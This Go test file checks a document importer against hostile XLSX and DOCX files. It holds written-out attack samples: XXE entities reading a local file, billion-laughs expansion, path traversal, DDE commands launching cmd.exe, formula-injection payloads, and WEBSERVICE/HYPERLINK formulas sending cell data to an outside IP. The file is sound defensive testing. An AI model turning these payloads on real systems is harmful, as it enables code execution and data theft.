package office

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"plumbline/internal/ground/clock"
	"plumbline/internal/ground/fault"
)

const (
	memoryMost = 256 << 20
	timeMost   = 10 * time.Second
	bookOfOne  = `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="单位" sheetId="1" r:id="rId1"/></sheets></workbook>`
	relsOfOne  = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`
	sheetNS    = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`
	topRels    = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`
	types      = `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`
	secret     = "PLUMBLINE-CANARY-7f3a"
)

// sheetOf is a workbook with one sheet of that XML, and more parts beside it.
func sheetOf(inner string, more ...string) []byte {
	parts := map[string]string{"xl/workbook.xml": bookOfOne, "xl/_rels/workbook.xml.rels": relsOfOne, "xl/worksheets/sheet1.xml": sheetNS + inner + "</worksheet>",
		"[Content_Types].xml": types, "_rels/.rels": topRels}
	for i := 0; i+1 < len(more); i += 2 {
		parts[more[i]] = more[i+1]
	}
	return packed(parts)
}

func cell(inner string) string { return "<sheetData><row r=\"1\">" + inner + "</row></sheetData>" }

// hostileBooks are workbooks that somebody might send to an import, by what they try. Each ends as a
// fault with a sentence, or as rows of text.
func hostileBooks(canary string) map[string][]byte {
	entity := `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://` + canary + `">]>`
	laughs := `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "` + strings.Repeat("ha", 50) + `"><!ENTITY b "` + strings.Repeat("&a;", 50) + `"><!ENTITY c "` + strings.Repeat("&b;", 50) + `"><!ENTITY d "` + strings.Repeat("&c;", 50) + `">]>`
	text := func(s string) string { return cell(`<c r="A1" t="inlineStr"><is><t>` + s + `</t></is></c>`) }
	deep := strings.Repeat("<a>", 100_000)
	var sheets strings.Builder
	for i := range 200 {
		fmt.Fprintf(&sheets, `<sheet name="s%d" sheetId="%d" r:id="rId1"/>`, i, i+1)
	}
	books := map[string][]byte{
		"a dimension of the whole sheet":       sheetOf(`<dimension ref="A1:XFD1048576"/>` + text("x")),
		"a cell in the last corner":            sheetOf(`<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>`),
		"a row beyond the last":                sheetOf(`<sheetData><row r="2147483647"><c r="A2147483647"><v>1</v></c></row></sheetData>`),
		"a row before the first":               sheetOf(`<sheetData><row r="-5"><c r="A-5"><v>1</v></c></row></sheetData>`),
		"rows backwards":                       sheetOf(`<sheetData><row r="9"><c r="A9"><v>1</v></c></row><row r="2"><c r="A2"><v>1</v></c></row></sheetData>`),
		"a cell with a name from nowhere":      sheetOf(cell(`<c r="ZZZZZZ1"><v>1</v></c>`)),
		"a cell without a name":                sheetOf(cell(`<c><v>1</v></c>`)),
		"200,000 empty rows":                   sheetOf("<sheetData>" + strings.Repeat(`<row/>`, 200_000) + "</sheetData>"),
		"30,000 rows":                          sheetOf("<sheetData>" + strings.Repeat(`<row><c t="inlineStr"><is><t>x</t></is></c></row>`, 30_000) + "</sheetData>"),
		"16,000 cells in a row":                sheetOf(cell(strings.Repeat(`<c t="inlineStr"><is><t>x</t></is></c>`, 16_000))),
		"a cell of 4 MiB":                      sheetOf(text(strings.Repeat("长", 4<<20/3))),
		"merged over everything":               sheetOf(text("x") + `<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`),
		"merged 100,000 times":                 sheetOf(text("x") + "<mergeCells>" + strings.Repeat(`<mergeCell ref="A1:A1048576"/>`, 100_000) + "</mergeCells>"),
		"a string that is not there":           sheetOf(cell(`<c r="A1" t="s"><v>4000000000</v></c>`)),
		"a string before the first":            sheetOf(cell(`<c r="A1" t="s"><v>-1</v></c>`)),
		"a million shared strings":             sheetOf(cell(`<c r="A1" t="s"><v>1</v></c>`), "xl/sharedStrings.xml", "<sst>"+strings.Repeat("<si><t/></si>", 1_000_000)+"</sst>"),
		"one shared string used 20,000 times":  sheetOf("<sheetData>"+strings.Repeat(`<row><c t="s"><v>0</v></c></row>`, 19_999)+"</sheetData>", "xl/sharedStrings.xml", `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>`+strings.Repeat("x", 30_000)+"</t></si></sst>"),
		"an entity in a sheet":                 packed(map[string]string{"xl/workbook.xml": bookOfOne, "xl/_rels/workbook.xml.rels": relsOfOne, "xl/worksheets/sheet1.xml": entity + sheetNS + text("&x;") + "</worksheet>"}),
		"an entity in the strings":             sheetOf(cell(`<c r="A1" t="s"><v>0</v></c>`), "xl/sharedStrings.xml", entity+"<sst><si><t>&x;</t></si></sst>"),
		"an entity in the workbook":            sheetOf(text("x"), "xl/workbook.xml", entity+strings.Replace(bookOfOne, "单位", "&x;", 1)),
		"laughs in a sheet":                    packed(map[string]string{"xl/workbook.xml": bookOfOne, "xl/_rels/workbook.xml.rels": relsOfOne, "xl/worksheets/sheet1.xml": laughs + sheetNS + text("&d;") + "</worksheet>"}),
		"laughs in the strings":                sheetOf(cell(`<c r="A1" t="s"><v>0</v></c>`), "xl/sharedStrings.xml", laughs+"<sst><si><t>&d;</t></si></sst>"),
		"100,000 elements deep":                sheetOf(deep),
		"100,000 elements deep in the strings": sheetOf(text("x"), "xl/sharedStrings.xml", deep),
		"100,000 elements deep in the styles":  sheetOf(text("x"), "xl/styles.xml", deep),
		"200 sheets":                           sheetOf(text("x"), "xl/workbook.xml", strings.Replace(bookOfOne, `<sheet name="单位" sheetId="1" r:id="rId1"/>`, sheets.String(), 1)),
		"a sheet outside the package":          sheetOf(text("x"), "xl/_rels/workbook.xml.rels", strings.Replace(relsOfOne, "worksheets/sheet1.xml", "../../../../../"+canary, 1)),
		"a sheet at an address":                sheetOf(text("x"), "xl/_rels/workbook.xml.rels", strings.Replace(relsOfOne, `Target="worksheets/sheet1.xml"`, `Target="http://198.51.100.1/" TargetMode="External"`, 1)),
		"a formula that fetches":               sheetOf(cell(`<c r="A1"><f>WEBSERVICE("http://198.51.100.1/"&amp;A2)</f><v>kept</v></c>`)),
		"a formula without a value":            sheetOf(cell(`<c r="A1"><f>HYPERLINK("http://198.51.100.1","x")</f></c>`)),
		"DDE":                                  sheetOf(cell(`<c r="A1"><f>cmd|'/c calc'!A0</f><v>0</v></c>`)),
		"a formula that names itself":          sheetOf(cell(`<c r="A1"><f>A1</f></c>`)),
		"an array formula over everything":     sheetOf(cell(`<c r="A1"><f t="array" ref="A1:XFD1048576">ROW()</f><v>1</v></c>`)),
		"a shared formula without an owner":    sheetOf(cell(`<c r="A1"><f t="shared" si="4000000"/></c>`)),
		"a number of 100,000 digits":           sheetOf(cell(`<c r="A1"><v>` + strings.Repeat("9", 100_000) + `</v></c>`)),
		"numbers that are none":                sheetOf(cell(`<c r="A1"><v>NaN</v></c><c r="B1"><v>1e999</v></c><c r="C1"><v>-Inf</v></c><c r="D1" t="d"><v>9999-99-99</v></c>`)),
		"a day in the year 10^300":             sheetOf(cell(`<c r="A1" s="1"><v>1e300</v></c>`), "xl/styles.xml", `<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>`),
		"a style that is not there":            sheetOf(cell(`<c r="A1" s="999999999"><v>1</v></c>`)),
		"100 MiB of zeros":                     sheetOf(text("x"), "xl/media/a.bin", strings.Repeat("\x00", 100<<20)),
		"90 MiB of spaces in a sheet":          sheetOf(strings.Repeat(" ", 90<<20) + text("x")),
		"3,000 parts":                          manyParts(3000),
		"macros":                               sheetOf(text("x"), "xl/vbaProject.bin", "x"),
		"two parts of one name":                twice(),
		"a part outside the package":           sheetOf(text("x"), "../../../../tmp/x", "x"),
		"bad UTF-8":                            sheetOf(text("\xff\xfe\xc3\x28")),
		"NUL":                                  sheetOf(text("a\x00b")),
		"UTF-7":                                packed(map[string]string{"xl/workbook.xml": `<?xml version="1.0" encoding="UTF-7"?>` + bookOfOne}),
		"not closed":                           packed(map[string]string{"xl/workbook.xml": bookOfOne, "xl/_rels/workbook.xml.rels": relsOfOne, "xl/worksheets/sheet1.xml": sheetNS + "<sheetData><row><c"}),
	}
	return books
}

func manyParts(n int) []byte {
	parts := map[string]string{"xl/workbook.xml": bookOfOne}
	for i := range n {
		parts[fmt.Sprintf("xl/media/%d", i)] = "x"
	}
	return packed(parts)
}

// twice has two sheets under one name: what is examined and what is read must not be two things.
func twice() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range [][2]string{{"xl/workbook.xml", bookOfOne}, {"xl/_rels/workbook.xml.rels", relsOfOne}, {"xl/worksheets/sheet1.xml", sheetNS + cell(`<c><v>1</v></c>`) + "</worksheet>"}, {"xl/worksheets/sheet1.xml", sheetNS + cell(`<c><v>2</v></c>`) + "</worksheet>"}} {
		if w, err := z.Create(p[0]); err == nil {
			_, _ = w.Write([]byte(p[1])) // into memory
		}
	}
	_ = z.Close()
	return b.Bytes()
}

// readAll reads a workbook as an import does, and answers its text.
func readAll(data []byte) (text string, err error) {
	w, err := OpenWorkbook(data, Limits{})
	if err != nil {
		return "", err
	}
	defer func() { _ = w.Close() }()
	var b strings.Builder
	for _, name := range w.Sheets() {
		rows, err := w.Rows(name)
		if err != nil {
			return b.String(), err
		}
		for _, r := range rows {
			for _, c := range r.Cells {
				b.WriteString(c.Text[:min(len(c.Text), 100)] + " ")
			}
		}
		if _, err := w.TableOn(name, unitSheet, say); err != nil {
			return b.String(), err
		}
	}
	return b.String(), nil
}

func TestHostileBooks(t *testing.T) {
	canary := filepath.Join(t.TempDir(), "canary.xml")
	if err := os.WriteFile(canary, []byte(sheetNS+cell(`<c t="inlineStr"><is><t>`+secret+`</t></is></c>`)+"</worksheet>"), 0o600); err != nil {
		t.Fatal(err)
	}
	books := hostileBooks(canary)
	for _, what := range slices.Sorted(maps.Keys(books)) {
		held(t, what, func() error {
			text, err := readAll(books[what])
			if strings.Contains(text, secret) || strings.Contains(text, "hahaha") {
				t.Errorf("%s: the file's entity or path was followed", what)
			}
			if strings.Contains(text, "WEBSERVICE") {
				t.Errorf("%s: a formula is read as text", what)
			}
			return err
		})
	}
	t.Logf("%d workbooks", len(books))
}

func TestHostileDocuments(t *testing.T) {
	canary := filepath.Join(t.TempDir(), "canary")
	if err := os.WriteFile(canary, []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	entity := `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file://` + canary + `"><!ENTITY a "` + strings.Repeat("ha", 5000) + `">]>`
	levels := strings.Repeat(`<w:lvl w:ilvl="0"><w:start w:val="99999999999999999999"/><w:lvlText w:val="`+strings.Repeat("%1", 2000)+`"/></w:lvl>`, 1)
	cases := map[string]map[string]string{
		"an entity":                    {"word/document.xml": entity + body(p("&x;&a;"))},
		"entities in the numbering":    {"word/document.xml": body(numbered("0", "x")), "word/numbering.xml": entity + "<a>&x;</a>"},
		"a number written 2,000 times": {"word/document.xml": body(strings.Repeat(numbered("0", "x"), 5000)), "word/numbering.xml": `<w:numbering ` + wordNS + `><w:abstractNum w:abstractNumId="0">` + levels + `</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`},
		"400,000 paragraphs":           {"word/document.xml": body(strings.Repeat(p("x"), 400_000))},
		"an attribute of 30 MiB":       {"word/document.xml": body(`<w:p w:x="` + strings.Repeat("x", 30<<20) + `"/>`)},
		"100,000 attributes":           {"word/document.xml": body("<w:p " + strings.Repeat(`a="" `, 100_000) + "/>")},
		"a comment of 40 MiB":          {"word/document.xml": body("<!--" + strings.Repeat("x", 40<<20) + "-->")},
		"a processing instruction":     {"word/document.xml": `<?xml-stylesheet href="http://198.51.100.1/x.xsl"?>` + body(p("x"))},
		"text between everything":      {"word/document.xml": "x" + body(p("x")) + "x"},
		"levels out of range":          {"word/document.xml": body(numbered("9", "x") + numbered("-1", "x") + numbered("999999999999", "x")), "word/numbering.xml": chineseList},
		"numbering 100,000 deep":       {"word/document.xml": body(p("x")), "word/numbering.xml": strings.Repeat("<w:a>", 100_000)},
		"bad UTF-8":                    {"word/document.xml": body(p("\xff\xfe"))},
		"an altChunk of a page":        {"word/document.xml": body(`<w:altChunk r:id="rId1"/>` + p("x")), "word/afchunk.mht": "<script>alert(1)</script>"},
		"a field that includes a file": {"word/document.xml": body(`<w:p><w:r><w:instrText>INCLUDETEXT "` + canary + `"</w:instrText></w:r></w:p>` + p("x"))},
		"DDEAUTO":                      {"word/document.xml": body(`<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe"/></w:p>` + p("x"))},
	}
	for _, what := range slices.Sorted(maps.Keys(cases)) {
		data := docx(t, cases[what])
		held(t, what, func() error {
			text, err := DocxText(data)
			if strings.Contains(text, secret) || strings.Contains(text, "hahaha") || strings.Contains(text, "script") || strings.Contains(text, "DDE") {
				t.Errorf("%s: %.80q", what, text)
			}
			return err
		})
	}
}

// held runs one case within its bounds. The only errors are those that have a sentence.
func held(t *testing.T, what string, read func() error) {
	t.Helper()
	var err error
	var most uint64
	took := 2 * timeMost
	for range 3 { // what only a busy machine made slow is quicker the next time
		began := clock.System.Now()
		most = heapWhile(func() { err = read() })
		if took = clock.System.Now().Sub(began); took <= timeMost {
			break
		}
	}
	if _, known := fault.As(err); err != nil && !known && !errors.Is(err, ErrNotDocx) && !errors.Is(err, ErrDocxTooBig) && !errors.Is(err, ErrOldDoc) {
		t.Errorf("%s: %v has no sentence", what, err)
	}
	if took > timeMost || most > memoryMost {
		t.Errorf("%s took %v and %d MiB", what, took, most>>20)
	}
}

func TestHostileControls(t *testing.T) {
	if most := heapWhile(func() { runtime.KeepAlive(make([]byte, 300<<20)) }); most < memoryMost {
		t.Errorf("300 MiB look like %d MiB", most>>20)
	}
	if text, err := readAll(sheetOf(cell(`<c t="inlineStr"><is><t>` + secret + `</t></is></c>`))); err != nil || !strings.Contains(text, secret) {
		t.Errorf("the check cannot see the text of a sheet: %q %v", text, err)
	}
}

// heapWhile answers the most memory in use while f ran, above what was in use before. The collector is kept
// close behind, so that what counts is what f holds and not what waits to be collected.
func heapWhile(f func()) uint64 {
	defer debug.SetGCPercent(debug.SetGCPercent(25))
	var m runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m)
	before, most := m.HeapInuse, m.HeapInuse
	stop, done := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(done)
		tick := time.NewTicker(10 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-stop:
				return
			case <-tick.C:
				var m runtime.MemStats
				runtime.ReadMemStats(&m)
				most = max(most, m.HeapInuse)
			}
		}
	}()
	f()
	runtime.ReadMemStats(&m)
	close(stop)
	<-done
	return max(most, m.HeapInuse) - before
}

// formulas are 60 and more beginnings that have made some spreadsheet act.
func formulas() (out []string) {
	ends := []string{"1+1", `cmd|'/C calc'!A0`, `HYPERLINK("http://198.51.100.1/?x="&A1,"点此")`, `WEBSERVICE("http://198.51.100.1/")`, `IMPORTXML("http://198.51.100.1","//a")`, "SUM(A1:A9)", "2+5+cmd|' /C calc'!A0"}
	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠"} {
		for _, end := range ends {
			out = append(out, begin+end)
		}
	}
	return append(out, "=", "-", "\n=1", " =1+1", "\u00a0=1", "\ufeff=1", ";=1", ",=1", `"=1`, "'=1", "%0A=1", "{=1}", "=1\x00", "＝１＋１", "=cmd|'/c \"x\"'!\x01", "⁼1", "﹦1", "~=1")
}

// T-CSV: whatever a cell says, a program that opens the workbook finds text in it.
func TestNoLiveFormulas(t *testing.T) {
	attacks := formulas()
	var rows [][]any
	for _, a := range attacks {
		rows = append(rows, []any{a})
	}
	data := made(t, rows...)
	if live := liveCells(t, data); len(live) > 0 {
		t.Errorf("live: %q", live)
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	_ = f.SetCellFormula("单位", "A6", "1+1")
	var planted bytes.Buffer
	if err := f.Write(&planted); err != nil {
		t.Fatal(err)
	}
	if len(liveCells(t, planted.Bytes())) != 1 {
		t.Error("a planted formula is not seen")
	}
	if soffice, err := exec.LookPath("soffice"); err == nil && os.Getenv("PLUMBLINE_NIGHTLY") != "" {
		openedByLibreOffice(t, soffice, data, attacks)
	}
	t.Logf("%d payloads", len(attacks))
}

// liveCells names every cell of a workbook that is not plain text, a number or a day.
func liveCells(t *testing.T, data []byte) (live []string) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	for _, part := range zr.File {
		if strings.Contains(part.Name, "externalLink") || strings.Contains(part.Name, "connections") {
			live = append(live, part.Name)
		}
		if !strings.HasPrefix(part.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if _, err := b.ReadFrom(r); err != nil {
			t.Fatal(err)
		}
		for _, sign := range []string{"<f>", "<f ", "<f/>", "<hyperlink", "<oleObject"} {
			if n := strings.Count(b.String(), sign); n > 0 {
				live = append(live, fmt.Sprintf("%s: %d × %s", part.Name, n, sign))
			}
		}
	}
	return live
}

// openedByLibreOffice converts the workbook and looks whether a cell was computed.
func openedByLibreOffice(t *testing.T, soffice string, data []byte, attacks []string) {
	t.Helper()
	dir := t.TempDir()
	name := filepath.Join(dir, "a.xlsx")
	if err := os.WriteFile(name, data, 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(soffice, "-env:UserInstallation=file://"+dir+"/profile", "--headless", "--convert-to", "fods", "--outdir", dir, name)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	out, err := os.ReadFile(filepath.Join(dir, "a.fods"))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(out, []byte("table:formula")) {
		t.Errorf("LibreOffice found a formula among %d", len(attacks))
	}
}
